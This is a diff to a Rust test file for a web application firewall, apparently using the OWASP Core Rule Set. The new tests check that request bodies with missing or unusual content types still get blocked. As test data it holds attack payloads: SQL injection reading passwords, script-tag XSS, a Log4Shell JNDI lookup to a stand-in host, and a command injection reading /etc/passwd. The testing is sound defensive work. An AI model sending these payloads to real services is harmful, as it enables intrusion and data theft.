@@ -116,7 +116,7 @@ async fn http_2_is_inspected_too() {
     let answer = client.get(format!("{url}?q=evil")).send().await.expect("answer");
     assert_eq!((answer.status().as_u16(), answer.version()), (403, http::Version::HTTP_2));
     let answer = client.post(&url).body("q=evil").send().await.expect("answer");
-    assert_eq!(answer.status(), 200, "without a type no arguments are read from the body");
+    assert_eq!(answer.status(), 403, "without a type it is read as a form");
     let form = client.post(&url).header("content-type", "application/x-www-form-urlencoded");
     assert_eq!(form.body("q=evil").send().await.expect("answer").status(), 403);
 }
@@ -472,4 +472,66 @@ async fn who_exhausts_an_expression_does_not_get_past_it() {
     let last = &lines(&audit)[5]["metadata"];
     assert_eq!(last["matches"][0]["rule_id"], 200_006);
     assert!(last["limits_reached"].as_u64() > Some(0), "{last}");
+}
+
+#[tokio::test]
+async fn bodies_that_no_processor_reads_do_not_pass_whole() {
+    let backend = Backend::start("a").await;
+    let rig = guarded_by_crs(&backend).await;
+    let send = async |path: &str, kind: Option<&str>, body: &str| {
+        let kind = kind.map_or_else(String::new, |kind| format!("Content-Type: {kind}\r\n"));
+        rig.send(&format!(
+            "POST {path} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
+             {kind}Content-Length: {}\r\n\r\n{body}",
+            body.len(),
+        ))
+        .await
+        .status
+    };
+    let attacks = [
+        "x=1' UNION SELECT password FROM users-- -",
+        r#"{"a":"1' UNION SELECT password FROM users-- -"}"#,
+        r#"{"a":"<script>alert(1)</script>"}"#,
+        r#"[{"b":"=&<script>alert(1)</script>"}]"#,
+        "<script>alert(1)</script>",
+        "${jndi:ldap://evil.example/a}",
+        r#"{"a":"${jndi:ldap://evil.example/a}"}"#,
+        r#"{"a":"; cat /etc/passwd"}"#,
+    ];
+    for kind in [None, Some(""), Some(";charset=utf-8"), Some("multipart/related; boundary=x")] {
+        for attack in attacks {
+            assert_eq!(send("/x", kind, attack).await, 403, "{kind:?} {attack}");
+        }
+    }
+    for kind in ["text/plain", "text/json", "application/octet-stream"] {
+        for path in ["/x", "/api/shop/x", "/api/v1/shop/x", "/api/usersx/x"] {
+            assert_eq!(send(path, Some(kind), attacks[0]).await, 403, "{kind} {path}");
+        }
+        for path in ["/api/v1/users/me", "/api/auth/login", "/a/auth/login", "/b/payments"] {
+            let status = send(path, Some(kind), "hello").await;
+            assert_ne!(status, 403, "the service says 415: {kind} {path}");
+        }
+    }
+    assert_eq!(backend.hits(), 12, "harmless text only");
+    for body in ["", "hello", r#"{"name":"Ann","about":"I like tea; and you?"}"#, "a=1&b=2"] {
+        assert_eq!(send("/x", None, body).await, 200, "{body}");
+    }
+}
+
+#[tokio::test]
+async fn pictures_of_any_kind_are_sent_as_they_are() {
+    let backend = Backend::start("a").await;
+    let rig = guarded_by_crs(&backend).await;
+    let picture = "x".repeat(200_000);
+    for kind in ["image/png", "image/jpeg", "image/avif", "image/heic", "image/svg+xml"] {
+        let answer = rig
+            .send(&format!(
+                "PUT /api/v1/users/me/avatar HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n\
+                 User-Agent: Mozilla/5.0\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n\
+                 {picture}",
+                picture.len(),
+            ))
+            .await;
+        assert_eq!(answer.status, 200, "{kind}: the service decides");
+    }
 }
